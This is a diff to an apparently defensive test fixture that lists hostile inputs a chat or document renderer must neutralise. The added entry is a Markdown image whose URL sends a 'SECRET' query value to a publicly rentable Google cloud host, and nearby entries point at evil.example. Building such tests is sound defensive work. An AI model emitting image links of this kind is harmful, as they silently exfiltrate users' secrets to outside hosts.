@@ -162,6 +162,12 @@ export const HOSTILE_INPUTS: readonly HostileInput[] = [
   },
   { what: "a Markdown image with a title", place: "chat", content: '![x](http://evil.example/x "y")', never: /!\[/ },
   {
+    what: "a Markdown image on a machine that anybody can rent from Google",
+    place: "chat",
+    content: "![x](https://1.0.0.127.bc.googleusercontent.com/c?q=SECRET)",
+    never: /!\[/,
+  },
+  {
     what: "a Markdown image of data",
     place: "document",
     content: `![x](data:image/svg+xml;base64,${"A".repeat(400)})`,
